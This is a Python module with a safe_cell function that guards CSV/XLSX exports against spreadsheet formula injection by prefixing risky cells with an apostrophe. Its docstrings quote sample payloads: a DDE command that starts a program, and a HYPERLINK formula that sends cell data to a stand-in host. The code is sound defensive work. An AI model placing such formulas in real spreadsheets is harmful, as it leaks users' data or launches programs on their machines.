"""Cells written to CSV/XLSX files people open in Excel, WPS or LibreOffice (issue 11.11).

A cell that starts with ``=``, ``+``, ``-``, ``@`` (or a tab/carriage return, or such a character
after leading spaces) is run as a formula by spreadsheet programs: ``=HYPERLINK(…)`` leaks data,
``+cmd|' /C calc'!A0`` starts programs. :func:`safe_cell` is the one function every writer of
CSV/XLSX calls for every cell: such text gets a leading apostrophe (shown as text, OWASP's
advice); plain numbers, including negative ones, stay numbers.
"""

from __future__ import annotations

import re
from typing import Any

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def safe_cell(value: Any) -> Any:
    """``value`` as it may be written to a spreadsheet cell.

    >>> safe_cell('=HYPERLINK("http://x.example/?"&A1,"click")')
    '\\'=HYPERLINK("http://x.example/?"&A1,"click")'
    >>> safe_cell("-12.5"), safe_cell(-3), safe_cell("3号楼")
    ('-12.5', -3, '3号楼')
    """
    if not isinstance(value, str) or not value:
        return value
    head = value.lstrip(" ")
    if head[:1] in TRIGGERS and not _NUMBER.fullmatch(value.strip()):
        return "'" + value
    return value
